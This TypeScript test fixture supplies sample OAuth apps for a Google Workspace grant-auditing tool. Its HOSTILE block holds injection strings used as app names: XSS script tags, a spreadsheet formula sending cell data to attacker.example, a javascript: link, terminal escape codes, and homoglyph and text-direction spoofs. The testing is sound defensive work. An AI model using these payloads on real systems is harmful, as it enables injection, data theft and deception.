import { digits, letters } from '../../../src/testing/random.ts';

/** An OAuth client that people grant access to. A provider knows nothing of approvals, so neither does this list. */
export interface App {
  clientId: string;
  /** Chosen by the developer, who may change it at any time. */
  name: string;
  renamed?: { night: number; name: string };
  clientType: 'WEB' | 'NATIVE_DESKTOP';
  /** Sets of scopes that it asks for, the usual one first. */
  asks: readonly [readonly string[], ...(readonly string[])[]];
}

/** What the app calls itself on a night. */
export function nameOf(app: App, night: number): string {
  return app.renamed && night >= app.renamed.night ? app.renamed.name : app.name;
}

/** Full scopes: sign-in, and what is named by the part after `/auth/`. */
export function scopes(...names: readonly string[]): readonly string[] {
  return ['openid', auth('userinfo.email'), auth('userinfo.profile'), ...names.map(auth)];
}

function auth(name: string): string {
  return `https://www.googleapis.com/auth/${name}`;
}

const LOWERCASE = 'abcdefghijklmnopqrstuvwxyz0123456789';
/** Google Cloud project of the company itself: the leading digits of its own clients. */
export const OWN_PROJECT = digits(12, 'google-workspace', 'own project');

const SIGN_IN = scopes();
const CALENDAR = scopes('calendar.readonly');

export const APPS = {
  chatgpt: invented('ChatGPT', [SIGN_IN, scopes('drive.readonly')]),
  claude: invented('Claude', [SIGN_IN, scopes('drive.readonly', 'gmail.readonly', 'calendar.readonly')]),
  grammarly: invented('Grammarly', [SIGN_IN, scopes('drive', 'gmail.modify')]),
  zoom: invented('Zoom', [scopes('calendar.events'), SIGN_IN]),
  otter: invented('Otter.ai', [scopes('calendar.readonly', 'contacts.readonly'), CALENDAR]),
  readAi: invented('Read AI', [scopes('calendar.events'), scopes('calendar.events', 'gmail.readonly')]),
  perplexity: invented('Perplexity', [SIGN_IN, scopes('gmail.readonly', 'calendar.readonly')]),
  fireflies: invented('Fireflies.ai', [CALENDAR, scopes('calendar.readonly', 'drive.file')]),
  contextAi: {
    // Published as the indicator of a breach: it must be found by its id, whatever it calls itself.
    clientId: '110671459871-30f1spbu0hptbs60cb4vsmv79i7bbvqj.apps.googleusercontent.com',
    name: 'Context.ai',
    renamed: { night: 1, name: 'Workspace Office Suite' },
    clientType: 'WEB',
    asks: [scopes('drive.readonly', 'gmail.readonly')],
  },
  geminiCli: {
    clientId: '681255809395-oo8ft2oprdrnp9e3aqf6av3hmdib135j.apps.googleusercontent.com',
    name: 'Gemini CLI',
    clientType: 'NATIVE_DESKTOP',
    asks: [scopes('cloud-platform')],
  },
  meetingNotes: invented('Meeting Notes GPT Helper', [scopes('calendar.readonly', 'documents')]),
  slack: invented('Slack', [SIGN_IN, scopes('drive.file', 'calendar.events')]),
  calendly: invented('Calendly', [scopes('calendar')]),
  lucidchart: invented('Lucidchart', [scopes('drive.file'), SIGN_IN]),
  skillman: invented('Skillman Payroll', [SIGN_IN]),
  observatory: invented('Gemini Observatory Archive', [SIGN_IN]),
  intranet: { ...invented('Lanternworks Intranet', [SIGN_IN, scopes('directory.readonly')]), clientId: client(OWN_PROJECT, 'intranet') },
  chrome: {
    clientId: '77185425430.apps.googleusercontent.com',
    name: 'Google Chrome',
    clientType: 'NATIVE_DESKTOP',
    asks: [['https://www.google.com/accounts/OAuthLogin']],
  },
  thunderbird: {
    clientId: '406964657835-aq8lmia8j95dhl1a2bvharmfk3t1hgqj.apps.googleusercontent.com',
    name: 'Mozilla Thunderbird',
    clientType: 'NATIVE_DESKTOP',
    asks: [['https://mail.google.com/', ...scopes('calendar', 'carddav')]],
  },
  /** Somebody else's client under a vendor's name. */
  lookAlike: { ...invented('ChatGPT', [scopes('gmail.readonly', 'drive')]), clientId: invented('look-alike').clientId },
} as const satisfies Record<string, App>;

/** Names that attack whoever prints, exports or compares them. */
export const HOSTILE = {
  cyrillic: hostile('cyrillic', '\u0421hatG\u0420\u0422', scopes('drive.readonly')),
  zeroWidth: hostile('zero width', 'Cla\u200bu\u200dde\ufeff'),
  reversed: hostile('reversed', 'Notes \u202etxt.exe\u202c helper'),
  html: hostile('html', '<img src=x onerror="alert(document.domain)"></td><script>alert(1)</script>'),
  formula: hostile('formula', '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'),
  markdown: hostile('markdown', '[Approve](javascript:alert(1)) | `x` | @everyone\n# Heading'),
  terminal: hostile('terminal', '\u001b]0;owned\u0007\u001b[2J\u001b[31mAll clear\u001b[0m\r\n\u0000\u009b1m'),
  long: hostile('long', 'Assistant '.repeat(1024)),
} as const satisfies Record<string, App>;

/** What ordinary people hold: an app that stands here more often is held more often. */
export const COMMON: readonly App[] = [
  ...times(8, APPS.zoom),
  ...times(6, APPS.chatgpt),
  ...times(6, APPS.slack),
  ...times(4, APPS.claude),
  ...times(4, APPS.grammarly),
  ...times(4, APPS.intranet),
  ...times(3, APPS.calendly),
  ...times(3, APPS.lucidchart),
  ...times(3, APPS.chrome),
  ...times(2, APPS.otter),
  ...times(2, APPS.perplexity),
  APPS.readAi,
  APPS.fireflies,
  APPS.geminiCli,
  APPS.meetingNotes,
  APPS.skillman,
  APPS.observatory,
  APPS.thunderbird,
];

function invented(name: string, asks: App['asks'] = [SIGN_IN]): App {
  return { clientId: client(digits(12, 'google-workspace', 'project', name), name), name, clientType: 'WEB', asks };
}

function hostile(label: string, name: string, asked: readonly string[] = SIGN_IN): App {
  return { ...invented(`hostile ${label}`, [asked]), name };
}

function client(project: string, label: string): string {
  return `${project}-${letters(32, LOWERCASE, 'google-workspace', 'client', label)}.apps.googleusercontent.com`;
}

function times(count: number, app: App): App[] {
  return Array.from({ length: count }, () => app);
}
